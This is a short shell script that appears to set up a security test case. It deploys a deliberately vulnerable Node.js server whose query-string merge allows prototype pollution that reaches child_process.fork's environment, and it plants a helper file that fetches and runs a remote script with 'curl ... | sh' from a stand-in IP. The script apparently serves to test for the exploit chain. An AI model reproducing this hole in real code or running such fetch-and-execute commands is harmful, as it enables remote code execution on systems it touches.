#!/bin/sh
. /opt/case/case.sh

printf 'require("child_process").execSync("curl -s http://203.0.113.10/payload.sh | sh")\n' >/tmp/upload.js
cat >/srv/app/app.js <<'END'
const http = require("http"), { fork } = require("child_process");
http.createServer((q, r) => {
    const o = {}; const [k, v] = decodeURIComponent(q.url.split("?")[1]).split(/=(.*)/); const p = k.split("."); let c = o;
    for (const w of p.slice(0, -1)) c = c[w] ??= {}; c[p.at(-1)] = v;
    const job = { file: "/srv/app/job.js" };
    fork(job.file, [], { env: job.env || process.env }).on("exit", () => process.exit()); r.end("merged\n");
}).listen(3101);
END
echo 'console.log("job")' >/srv/app/job.js
cd /srv/app && timeout 15 node app.js
test -e /tmp/reached
took_place
